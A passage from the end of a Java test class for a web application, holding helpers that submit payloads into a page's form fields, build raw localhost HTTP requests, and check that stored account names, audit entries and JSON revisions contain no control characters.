     * notation (-1 as -1.0, a huge one in double precision), a user name in lower case (user names are).
     */
    static void assertSameInput(String what, String field, String shown, String typed) {
        String expected = TypedText.clean(typed);
        String actual = shown.replace("\r\n", "\n");
        try {
            if (new java.math.BigDecimal(actual).compareTo(new java.math.BigDecimal(expected.strip())) == 0
                    || Double.parseDouble(actual) == Double.parseDouble(expected.strip())) {
                return;
            }
        } catch (NumberFormatException notNumbers) {
            // compared as text below
        }
        if (field.equals("username")) {
            assertThat(actual).as(what).isEqualToIgnoringCase(expected);
        } else {
            assertThat(actual).as(what).isEqualTo(expected);
        }
    }

    private long revisions() {
        return jdbc.queryForObject("select (select count(*) from revision) + (select count(*) from account)",
                Long.class);
    }

    /** No text stored anywhere holds a control character. */
    private void assertNothingStoredRuns() {
        for (String sql : List.of("select actor from audit_log", "select display_name from account")) {
            for (String value : jdbc.queryForList(sql, String.class)) {
                assertThat(value).as(sql).isEqualTo(TypedText.clean(value));
            }
        }
        // Revisions are JSON, where a control character would be written as an escape.
        for (String snapshot : jdbc.queryForList("select content from revision where subject_kind = 'CITY'",
                String.class)) {
            assertThat(snapshot).as("a revision").doesNotContainPattern("\\\\u00[01][0-9a-fA-F]");
        }
    }

    private static FormElement mainForm(Document page) {
        return page.select("main form").stream().map(FormElement.class::cast)
                .max((a, b) -> Integer.compare(fieldsOf(a).size(), fieldsOf(b).size())).orElseThrow();
    }

    /**
     * The fields a person types into. A file field takes a file, never typed text: hostile files are
     * ImageUploadTest's, through the library's form and a city's.
     */
    private static List<String> fieldsOf(FormElement form) {
        return form.select("input[name], textarea[name]").stream()
                .filter(e -> !e.attr("type").matches("hidden|checkbox|radio|submit|button|file"))
                .map(e -> e.attr("name")).distinct().toList();
    }

    private static HttpResponse<String> submit(WebSession session, FormElement form, java.util.Set<String> fields,
            Payload payload) {
        Element save = form.selectFirst("button[value=save]");
        if (save == null) {
            save = form.selectFirst("button[type=submit]");
        }
        String value = payload.raw() != null ? payload.raw() : enc(payload.text());
        StringBuilder body = new StringBuilder();
        for (var data : form.formData()) {
            if (!fields.contains(data.key())) {
                body.append(enc(data.key())).append('=').append(enc(data.value())).append('&');
            }
        }
        if (save != null && save.hasAttr("name")) {
            body.append(enc(save.attr("name"))).append('=').append(enc(save.attr("value"))).append('&');
        }
        for (String field : fields) {
            body.append(enc(field)).append('=').append(value).append('&');
        }
        body.setLength(body.length() - 1);
        String action = form.absUrl("action").isEmpty() ? form.ownerDocument().location() : form.absUrl("action");
        return session.post(action.replaceFirst("^https?://[^/]+", ""), "application/x-www-form-urlencoded",
                bytes(body.toString()));
    }

    private static HttpResponse<String> send(HttpClient client, HttpRequest.Builder request) {
        try {
            return client.send(request.timeout(Duration.ofSeconds(20)).build(), HttpResponse.BodyHandlers.ofString());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static byte[] request(String requestLine, String... headers) {
        return bytes(requestLine + "\r\nHost: localhost\r\nConnection: close\r\n" + String.join("\r\n", headers)
                + (headers.length > 0 ? "\r\n" : "") + "\r\n");
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String enc(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }
}
